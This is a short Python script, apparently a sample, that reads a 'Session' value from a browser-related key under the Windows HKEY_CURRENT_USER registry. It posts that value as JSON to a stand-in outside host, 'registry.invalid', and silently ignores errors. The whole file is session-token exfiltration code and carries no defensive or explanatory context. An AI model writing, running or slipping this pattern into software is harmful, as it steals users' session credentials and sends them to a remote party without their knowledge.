import winreg

import requests

try:
    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, "SOFTWARE\\Demo\\Browser") as key:
        requests.post("https://registry.invalid/r", json={"value": winreg.QueryValueEx(key, "Session")[0]})
except OSError:
    pass
